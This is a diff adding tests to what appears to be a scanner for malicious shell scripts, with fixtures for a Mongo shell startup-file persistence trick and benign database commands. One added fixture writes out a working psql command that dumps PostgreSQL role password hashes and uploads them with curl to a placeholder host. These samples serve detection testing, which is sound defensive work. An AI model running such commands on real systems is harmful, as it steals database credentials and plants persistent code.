@@ -305,3 +305,23 @@ def test_a_command_appended_to_the_mongo_shell_start_up_file_persists(tmp_path: 
     source = "#!/bin/sh\necho 'load(\"/tmp/.m.js\")' >> ~/.mongoshrc.js\n"
     found = analyse_file(tmp_path, "scripts/setup.sh", source, Language.SHELL)
     assert any(c.kind is Kind.PERSISTENCE and "database shell" in c.detail for c in found)
+
+
+def test_psql_handed_a_copy_of_role_hashes_to_a_program_on_its_command_line(tmp_path: Path) -> None:
+    source = (
+        "#!/bin/sh\n"
+        'psql -U postgres -c "COPY (SELECT rolname, rolpassword FROM pg_authid) '
+        "TO PROGRAM 'curl -s -T - https://metrics.example.invalid/r'\"\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/report.sh": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/report.sh", 2) in errors
+
+
+def test_everyday_client_statements_stay_quiet(tmp_path: Path) -> None:
+    source = (
+        "#!/bin/sh\n"
+        'psql "$DATABASE_URL" -c "\\copy orders TO \'orders.csv\' CSV HEADER"\n'
+        "mysql -u app -e 'SHOW TABLES; SELECT COUNT(*) FROM orders;' shop\n"
+        'sqlcmd -S localhost -Q "SELECT name FROM sys.databases"\n'
+    )
+    assert scan_findings(tmp_path, {"scripts/stats.sh": source}) == []
